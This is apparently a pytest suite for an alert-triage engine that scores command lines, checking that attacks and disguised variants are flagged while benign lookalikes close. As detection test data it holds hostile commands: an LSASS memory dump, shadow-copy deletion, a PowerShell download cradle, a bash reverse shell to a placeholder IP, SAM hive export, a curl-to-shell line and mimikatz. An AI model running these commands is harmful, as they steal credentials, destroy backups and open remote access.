"""The verdict of one alert: explained, bounded, and the same however the line is written."""

import base64
import functools
import random
from typing import Final, get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.triage.samples import alert, read
from vyrox.triage.catalogue import PLACES
from vyrox.triage.evaluation import measure
from vyrox.triage.rules import SIGNALS
from vyrox.triage.score import REVIEW, URGENT, judge
from vyrox.triage.signal import Family, Mitigation, Signal, Subject

DUMP: Final = r"rundll32.exe C:\windows\system32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full"
SHADOWS: Final = "vssadmin.exe delete shadows /all /quiet"
CRADLE: Final = (
    "powershell -nop -c IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"
)
SHELL: Final = "bash -i >& /dev/tcp/192.0.2.45/9001 0>&1"
HIVES: Final = r"reg save HKLM\SAM C:\temp\s"
ATTACKS: Final = (DUMP, SHADOWS, CRADLE, SHELL, HIVES)


def score(command_line: str, **members: object) -> float:
    return judge(alert(command_line, **members)).score


def encoded(command_line: str) -> str:
    return base64.b64encode(command_line.encode("utf-16-le")).decode()


def test_signals_have_unique_names_and_sane_weights() -> None:
    names = [signal.name for signal in SIGNALS]
    assert len(names) == len(set(names)) > 200
    assert all(0 < signal.weight < 1 for signal in SIGNALS)
    assert {signal.family for signal in SIGNALS} <= set(get_args(Family))
    assert all(signal.name.startswith(f"{signal.family}.") for signal in SIGNALS)
    assert all(
        "<" not in text or "(?<" in text or "<<" in text or "<&" in text for text in PLACES.values()
    )


@pytest.mark.parametrize("line", ATTACKS)
def test_judge_attack_is_at_least_review(line: str) -> None:
    assert score(line) >= URGENT


@pytest.mark.parametrize(
    "line",
    [
        "procdump.exe -accepteula -ma w3wp.exe C:\\dumps",
        "reg save HKCU\\Software\\Acme C:\\backup\\acme.hiv",
        "vssadmin list shadows",
        "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=10%",
        "curl -fsSL https://get.docker.com | sh",
        "PsExec64.exe \\\\PC12 ipconfig /flushdns",
        "schtasks /query /fo LIST",
        "vssadmin delete shadows /for=E: /oldest",
        "rundll32.exe printui.dll,PrintUIEntry /in /n\\\\print01\\hp",
        "msiexec /i C:\\ProgramData\\ccmcache\\7\\app.msi /qn",
    ],
)
def test_judge_the_benign_twin_is_closed(line: str) -> None:
    assert score(line) < REVIEW


@pytest.mark.parametrize(
    "rewrite",
    [
        pytest.param(str.upper, id="case"),
        pytest.param(lambda line: line.replace(" ", "   "), id="spaces"),
        pytest.param(
            lambda line: line.replace("delete", "del^ete").replace("save", "sa^ve"), id="carets"
        ),
        pytest.param(
            lambda line: line.replace("delete", 'de""lete').replace("save", 'sa""ve'), id="quotes"
        ),
        pytest.param(lambda line: line.replace(".exe", ""), id="no_exe"),
        pytest.param(lambda line: f"cmd.exe /c {line}", id="wrapped"),
        pytest.param(lambda line: line.replace(" -", " \u2013"), id="dashes"),
        pytest.param(lambda line: f"powershell -enc {encoded(line)}", id="encoded"),
        pytest.param(
            lambda line: f"powershell -e {encoded('powershell -enc ' + encoded(line))}", id="twice"
        ),
    ],
)
@pytest.mark.parametrize("line", [DUMP, SHADOWS, HIVES, CRADLE])
def test_judge_no_disguise_lowers_an_attack_below_review(line: str, rewrite: object) -> None:
    assert callable(rewrite)
    assert score(rewrite(line)) >= REVIEW


def test_judge_signal_never_lowers_the_score() -> None:
    present = Signal("discovery.more", "discovery", 0.4, lambda _subject: "more")
    for line in (*ATTACKS, "whoami", ""):
        before = judge(alert(line)).score
        assert judge(alert(line), signals=(*SIGNALS, present)).score >= before


def test_judge_rule_that_fails_makes_a_review() -> None:
    def fail(_subject: object) -> str | None:
        raise RuntimeError

    broken = Signal("discovery.broken", "discovery", 0.4, fail)
    verdict = judge(alert("whoami"), signals=(broken,))
    assert verdict.band == "review"
    assert "triage.error" in " ".join(verdict.explanation())


@pytest.mark.parametrize("severity", ["CRITICAL", "high", "90"])
def test_judge_never_closes_what_the_vendor_calls_high(severity: str) -> None:
    verdict = judge(alert("ipconfig", vendor_severity=severity))
    assert verdict.band != "close"


def test_judge_puts_no_words_into_the_vendors_mouth_contract_53() -> None:
    """A severity may be derived where the vendor says nothing."""
    derived = alert("ipconfig", vendor_severity=None, severity="high")
    assert judge(derived, signals=()).floor == "the severity is high, so a person decides"


def test_judge_takes_the_vendors_word_at_its_weight() -> None:
    words = ("CRITICAL", "Malicious", "high", "MEDIUM", "suspicious", "low", "INFORMATIONAL", None)
    scores = [round(judge(alert("x", vendor_severity=word)).score) for word in words]
    assert scores == [75, 52, 52, 18, 18, 2, 0, 8]


def test_judge_never_closes_for_want_of_knowledge() -> None:
    assert judge(alert(None, vendor_severity=None)).band == "review"
    assert judge(alert(None, vendor_severity="LOW")).band == "close"


def test_judge_closes_no_line_that_it_has_not_read_to_its_end_contract_53() -> None:
    hidden = judge(alert(f"cmd /c rem {'a' * 33_000} & mimikatz sekurlsa::logonpasswords"))
    assert (hidden.band, hidden.floor is not None) == ("review", True)


@pytest.mark.parametrize(
    "line",
    [
        "curl http://evil.example/x.sh | sh",
        'schtasks /create /tn x /tr "powershell -enc SQBFAFgA" /sc minute /ru system',
        r"psexec \\srv-2 -s cmd /c whoami",
    ],
)
def test_judge_words_of_several_mitigations_excuse_no_more_than_one_contract_53(line: str) -> None:
    assert judge(alert(f"{line} & reg query x & echo jenkins cmake veeam")).band == "review"


def test_judge_a_mitigation_that_fails_excuses_nothing_contract_53() -> None:
    def fails(_subject: Subject) -> str | None:
        raise RuntimeError

    broken = Mitigation("broken", frozenset({"discovery"}), 0.1, fails)
    verdict = judge(alert("whoami"), mitigations=[broken])
    assert verdict.band == "review"
    assert "broken failed" in [reason.text for reason in verdict.reasons]


def test_judge_disabled_signal_does_not_count() -> None:
    found = {reason.signal for reason in judge(alert(SHADOWS)).reasons}
    assert "recovery.shadows_deleted" in found
    off = judge(alert(SHADOWS), disabled=["recovery.shadows_deleted"])
    assert "recovery.shadows_deleted" not in {reason.signal for reason in off.reasons}


@given(st.text(max_size=400))
def test_judge_any_text_gives_the_same_explained_verdict_twice(text: str) -> None:
    first, second = (judge(alert(text, vendor_severity=None)) for _ in range(2))
    assert first == second
    assert 0 <= first.score <= 100
    assert first.explanation()


@functools.cache
def hostile() -> list[str]:
    rng = random.Random(7)  # noqa: S311
    nested = "calc"
    for _ in range(50):
        nested = f"powershell -enc {encoded(nested)}"[:200_000]
    return [
        "a" * 1_000_000,
        "^" * 100_000,
        "'+'" * 50_000,
        '("{0}"-f' * 5_000,
        "\\" * 100_000,
        "%temp%" * 20_000,
        "curl " * 20_000,
        "reg add " * 20_000 + "currentversion\\run",
        "".join(rng.choice("ab \\/-'\"|&;^%${}()[]") for _ in range(100_000)),
        "\u202e" * 50_000,
        nested,
    ]


@pytest.mark.parametrize("number", range(11))
def test_judge_hostile_line_gives_a_verdict_within_bounds(number: int) -> None:
    assert len(hostile()) == 11
    verdict = judge(alert(hostile()[number]))
    assert verdict.explanation()
    assert all(len(reason.text) <= 140 for reason in verdict.reasons)


@pytest.mark.parametrize("masked", [False, True])
def test_measures_on_the_samples(masked: bool) -> None:
    measures = measure([*read("malicious", masked=masked), *read("benign", masked=masked)])
    assert measures.recall.share >= 0.85
    assert measures.raised.share <= 0.06


@pytest.mark.parametrize(("masked", "recall", "raised"), [(True, 0.85, 0.05), (False, 0.92, 0.07)])
def test_measures_on_the_larger_sets(masked: bool, recall: float, raised: float) -> None:
    """Vendors call a few benign alerts high; those are raised whatever the rules say."""
    names = ("fresh_1", "fresh_2", "fresh_3", "fresh_4")
    measures = measure([each for name in names for each in read(name, masked=masked)])
    assert measures.recall.share >= recall
    assert measures.raised.share <= raised
